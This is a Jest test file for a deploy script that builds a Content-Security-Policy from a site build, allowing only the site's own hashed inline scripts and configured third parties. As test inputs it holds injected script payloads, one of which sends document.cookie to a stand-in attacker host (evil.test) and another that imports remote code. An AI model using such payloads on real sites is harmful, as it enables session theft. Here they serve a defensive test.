/**
 * @jest-environment node
 *
 * The Content-Security-Policy generator (scripts/deploy/csp.mjs) against a small build fixture (two pages and a
 * redirect page, the site's own inline scripts and their csp-manifest.json): it hashes only the site's known scripts, fails on any other inline script, and
 * allows third parties only when the build is configured with them.
 */
import { spawnSync } from 'node:child_process';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';

/** Runs the command as a deploy does: `node scripts/deploy/csp.mjs <build>`. */
function csp(buildDir: string) {
  const result = spawnSync(process.execPath, [path.join(__dirname, '..', 'csp.mjs'), buildDir], { encoding: 'utf8' });
  const policy = /^add_header Content-Security-Policy "(.*)" always;\n$/.exec(result.stdout)?.[1];
  return { status: result.status, policy: policy ?? '', stderr: result.stderr };
}

const FIXTURE = path.join(__dirname, 'fixtures', 'built-site');
let build: string;

beforeEach(() => {
  build = fs.mkdtempSync(path.join(os.tmpdir(), 'csp-build-'));
  fs.cpSync(FIXTURE, build, { recursive: true });
});
afterEach(() => fs.rmSync(build, { recursive: true, force: true }));

const directive = (policy: string, name: string) =>
  policy
    .split('; ')
    .find((d) => d.startsWith(`${name} `))
    ?.split(' ')
    .slice(1);
const manifest = () => JSON.parse(fs.readFileSync(path.join(build, 'csp-manifest.json'), 'utf8'));
const writeManifest = (changes: object) =>
  fs.writeFileSync(path.join(build, 'csp-manifest.json'), JSON.stringify({ ...manifest(), ...changes }));
const inject = (page: string, html: string) => {
  const file = path.join(build, page);
  fs.writeFileSync(file, fs.readFileSync(file, 'utf8').replace('</main>', `${html}</main>`));
};

it("allows the site's own inline scripts by hash, and nothing else runs inline", () => {
  const { status, policy } = csp(build);
  expect(status).toBe(0);
  const hashes = manifest().inlineScripts.map(({ sha256 }: { sha256: string }) => `'sha256-${sha256}'`);
  expect(directive(policy, 'script-src')).toEqual(["'self'", ...hashes.sort()]);
  expect(directive(policy, 'connect-src')).toEqual(["'self'"]);
  expect(directive(policy, 'object-src')).toEqual(["'none'"]);
  expect(directive(policy, 'base-uri')).toEqual(["'self'"]);
});

it.each([
  ['a plain inline script', '<script>fetch("https://evil.test/?c="+document.cookie)</script>'],
  ['a module script', '<script type="module">import("https://evil.test/x.js")</script>'],
  ['a script typed as JavaScript', "<script type='text/javascript'>alert(1)</script>"],
])('fails on %s that came in with a page, naming the page', (_name, script) => {
  inject('guides/index.html', script);
  const { status, policy, stderr } = csp(build);
  expect(status).toBe(1);
  expect(policy).toBe('');
  expect(stderr).toMatch(/1 inline script\(s\) in the build are not the site's own/);
  expect(stderr).toContain('guides/index.html: <script>');
});

it("leaves the build's redirect pages out of the policy, but not a page the build did not list as one", () => {
  const listed = csp(build);
  expect(listed.status).toBe(0);
  expect(directive(listed.policy, 'script-src')).toHaveLength(1 + manifest().inlineScripts.length);

  writeManifest({ redirectPages: [] });
  const unlisted = csp(build);
  expect(unlisted.status).toBe(1);
  expect(unlisted.stderr).toContain("old-guides/index.html: <script>window.location.href = '/guides/'");
});

it('ignores data blocks, which never run (structured data)', () => {
  inject('index.html', '<script type="application/ld+json">{"@type":"Thing"}</script>');
  expect(csp(build).status).toBe(0);
});

it('names no vote service, and so no loopback address, when the build has none', () => {
  const { policy } = csp(build);
  expect(policy).not.toBe('');
  expect(policy).not.toMatch(/127\.0\.0\.1|localhost|\[::1\]/);
});

it('allows the vote service the build calls, and warns when it is on loopback', () => {
  writeManifest({ voteApiOrigin: 'https://vote.webpack.test' });
  const remote = csp(build);
  expect(directive(remote.policy, 'connect-src')).toEqual(["'self'", 'https://vote.webpack.test']);
  expect(remote.stderr).toBe('');
  writeManifest({ voteApiOrigin: 'http://127.0.0.1:3031' });
  const loopback = csp(build);
  expect(directive(loopback.policy, 'connect-src')).toEqual(["'self'", 'http://127.0.0.1:3031']);
  expect(loopback.stderr).toMatch(/vote service on loopback/);
});

it('allows exactly what gtag.js needs when analytics is configured, and nothing of it otherwise', () => {
  const without = csp(build).policy;
  expect(without).not.toMatch(/google/);
  writeManifest({ gtag: true });
  const withGtag = csp(build).policy;
  expect(directive(withGtag, 'script-src')).toEqual([
    ...directive(without, 'script-src')!,
    'https://*.googletagmanager.com',
  ]);
  expect(directive(withGtag, 'connect-src')).toEqual([
    "'self'",
    'https://*.google-analytics.com',
    'https://*.analytics.google.com',
    'https://*.googletagmanager.com',
  ]);
  // Nothing else changes.
  const others = (policy: string) => policy.split('; ').filter((d) => !/^(script|connect)-src /.test(d));
  expect(others(withGtag)).toEqual(others(without));
});

it('refuses a build without its manifest', () => {
  fs.rmSync(path.join(build, 'csp-manifest.json'));
  const { status, stderr } = csp(build);
  expect(status).toBe(1);
  expect(stderr).toMatch(/csp-manifest\.json is missing/);
});
